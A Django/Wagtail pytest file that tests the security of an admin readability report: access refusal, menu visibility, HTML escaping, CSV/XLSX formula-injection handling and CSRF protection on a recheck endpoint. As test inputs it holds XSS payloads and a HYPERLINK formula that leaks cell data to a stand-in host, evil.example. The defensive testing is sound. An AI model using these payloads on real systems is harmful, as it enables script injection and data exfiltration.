"""Attacks on the plain-language quality report: asking for it (its page, the results
Wagtail fetches for paging and filtering, its export) without the right, putting HTML in
a title, a formula in a spreadsheet cell, and checking everything again from another
site's form."""

import csv
import io

import pytest
from bs4 import BeautifulSoup
from openpyxl import load_workbook

from django.contrib.auth.models import AnonymousUser, Permission
from django.test import Client

from tests.conftest import HARD_TEXT
from tests.factories import ResearchSummaryPageFactory, UserFactory

pytestmark = pytest.mark.django_db

REPORT = "/admin/reports/plain-language/"
RESULTS = "/admin/reports/plain-language/results/"
ASKED_FOR = [
    REPORT,
    RESULTS,
    REPORT + "?export=csv",
    REPORT + "?export=xlsx",
    RESULTS + "?export=csv",
]


def summary(editorial, title, text=HARD_TEXT):
    page = ResearchSummaryPageFactory(
        parent=editorial.tree.category, title=title, live=False, simple_explanation=text
    )
    page.save_revision(user=editorial.writer)
    return page


def in_admin_without_either_permission():
    """Someone with the admin's door key only: e.g. a medical reviewer's colleague
    given access but not the override, nor the limits."""
    user = UserFactory(username="bystander")
    user.user_permissions.add(Permission.objects.get(codename="access_admin"))
    return user


def as_user(user) -> Client:
    browser = Client()
    if not isinstance(user, AnonymousUser):
        browser.force_login(user)
    return browser


@pytest.mark.parametrize("url", ASKED_FOR)
@pytest.mark.parametrize("who", ["anonymous", "writer", "bystander"])
def test_without_the_permission_nothing_of_the_report_is_given(editorial, who, url):
    summary(editorial, "Secret draft")
    user = {
        "anonymous": AnonymousUser(),
        "writer": editorial.writer,
        "bystander": in_admin_without_either_permission(),
    }[who]
    browser = as_user(user)
    # Wagtail's admin answers a refusal with a redirect and a message for a person,
    # and with 403 for a script (its own fetches of the results say who they are).
    refusal = browser.get(url)
    by_script = browser.get(url, headers={"x-requested-with": "XMLHttpRequest"})
    if who == "anonymous":
        assert refusal.status_code == 302 and "/admin/login/" in refusal["Location"]
    else:
        assert refusal.status_code == 302 and refusal["Location"] == "/admin/"
    assert by_script.status_code == 403
    for response in (refusal, by_script):
        assert not response.streaming and b"Secret draft" not in response.content


@pytest.mark.parametrize("url", ASKED_FOR)
def test_whoever_sets_the_limits_or_may_override_sees_all_of_it(editorial, url):
    # The other side of the refusal above: the same URLs answer the two permissions.
    summary(editorial, "Secret draft")
    for user in (editorial.editor, editorial.reviewer):
        response = as_user(user).get(url)
        assert response.status_code == 200, (user, url)


def test_the_menu_offers_the_report_only_to_those_who_may_open_it(editorial):
    assert REPORT in as_user(editorial.editor).get("/admin/").content.decode()
    assert REPORT in as_user(editorial.reviewer).get("/admin/").content.decode()
    assert REPORT not in as_user(editorial.writer).get("/admin/").content.decode()
    bystander = in_admin_without_either_permission()
    assert REPORT not in as_user(bystander).get("/admin/").content.decode()


def test_html_in_a_title_or_an_override_reason_is_shown_as_text(editorial):
    from review.signoffs import record_override

    page = summary(editorial, "<script>alert('title')</script> Hard one")
    reason = "<img src=x onerror=alert('reason')> the glossary explains every term"
    record_override(page.get_latest_revision(), editorial.reviewer, reason, [])
    browser = as_user(editorial.editor)
    for url in (REPORT, RESULTS):
        html = browser.get(url).content.decode()
        assert "<script>alert(" not in html and "<img src=x" not in html, url
        assert "&lt;script&gt;alert(&#x27;title&#x27;)&lt;/script&gt; Hard one" in html, url
        assert "&lt;img src=x onerror=alert(&#x27;reason&#x27;)&gt; the glossary" in html, url


def test_a_cell_that_looks_like_a_formula_stays_text_in_every_export(editorial):
    summary(editorial, '=HYPERLINK("http://evil.example/?leak="&A1,"Open")')
    browser = as_user(editorial.editor)

    export = browser.get(REPORT + "?export=csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(export.streaming_content).decode())))
    assert rows[0]["Summary"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Open")'

    # Wagtail's own guard for XLSX: kept here so that losing it in an upgrade shows.
    export = browser.get(REPORT + "?export=xlsx")
    workbook = load_workbook(io.BytesIO(b"".join(export.streaming_content)))
    headings, first = list(workbook.active.iter_rows(max_row=2))
    cell = first[[heading.value for heading in headings].index("Summary")]
    assert cell.data_type == "s" and cell.value.startswith("=HYPERLINK(")


def test_checking_everything_again_takes_a_post_from_the_report_itself(editorial):
    summary(editorial, "Hard one")
    browser = Client(enforce_csrf_checks=True)
    browser.force_login(editorial.editor)
    recheck = "/admin/reports/plain-language/recheck/"
    assert browser.get(recheck).status_code == 405
    assert browser.post(recheck).status_code == 403  # no CSRF token: another site's form

    report = BeautifulSoup(browser.get(REPORT).content, "html.parser")
    form = report.find("form", action=recheck)
    assert form["method"] == "post"
    token = form.find("input", attrs={"name": "csrfmiddlewaretoken"})["value"]
    assert browser.post(recheck, {"csrfmiddlewaretoken": token}).status_code == 302
